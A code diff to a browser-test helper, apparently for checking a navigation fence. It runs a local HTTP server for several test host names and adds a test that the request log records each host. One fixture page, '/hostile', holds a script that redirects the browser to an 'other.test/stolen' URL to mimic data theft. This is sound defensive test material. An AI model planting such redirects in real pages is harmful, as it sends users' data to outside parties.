@@ -1,9 +1,13 @@
 """A local web site for the browser tests: one HTTP server on 127.0.0.1 answering for several
-host names (Chromium maps them to it), logging every request it receives with its Host."""
+host names (Chromium maps them to it), logging every request it receives with its Host.
+
+The log is the witness of the fence tests ("other.test never saw a request"), so it is tested
+here first: a witness that records nothing would make those tests pass for nothing."""
 
 from __future__ import annotations
 
 import threading
+import urllib.request
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -43,7 +47,8 @@ PAGES = {
         <button id=good style="position:absolute;left:10px;top:80px;width:200px;height:40px"
           onclick="window.open('http://allowed.test:{port}/landing')">Good popup</button>""",
     "/hostile": """<title>Hostile</title><p>Nothing to see</p>
-        <script>setTimeout(() => { location = 'http://other.test:{port}/stolen?c=1' }, 200)</script>""",
+        <script>setTimeout(() => { location = 'http://other.test:{port}/stolen?c=1' }, 200)
+        </script>""",
     "/ip-link": """<title>IP link</title>
         <a id=ip href="http://127.0.0.1:{port}/by-address"
           style="position:absolute;left:10px;top:10px;width:200px;height:40px;display:block">go</a>""",
@@ -105,14 +110,21 @@ def serve() -> tuple[ThreadingHTTPServer, Site]:
     return server, site
 
 
-@pytest.fixture
-def site() -> Iterator[Site]:
+def running_site() -> Iterator[Site]:
+    """Serve until the generator is closed (a fixture body: `yield from running_site()`)."""
     server, site = serve()
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
-    yield site
-    server.shutdown()
-    server.server_close()
+    try:
+        yield site
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def site() -> Iterator[Site]:
+    yield from running_site()
 
 
 # Every test host name resolves to the local server, so only the fence keeps other.test out.
@@ -120,3 +132,12 @@ RESOLVER_RULES = (
     "--host-resolver-rules=MAP allowed.test 127.0.0.1, MAP other.test 127.0.0.1, "
     "MAP *.allowed.test 127.0.0.1"
 )
+
+
+def test_the_witness_logs_each_host_and_the_redirect_target(site: Site) -> None:
+    for host in ("allowed.test", "other.test"):
+        request = urllib.request.Request(f"http://127.0.0.1:{site.port}/landing")
+        request.add_header("Host", f"{host}:{site.port}")
+        with urllib.request.urlopen(request, timeout=10) as response:
+            assert b"Landed safely" in response.read()
+    assert site.requests == [("allowed.test", "/landing"), ("other.test", "/landing")]
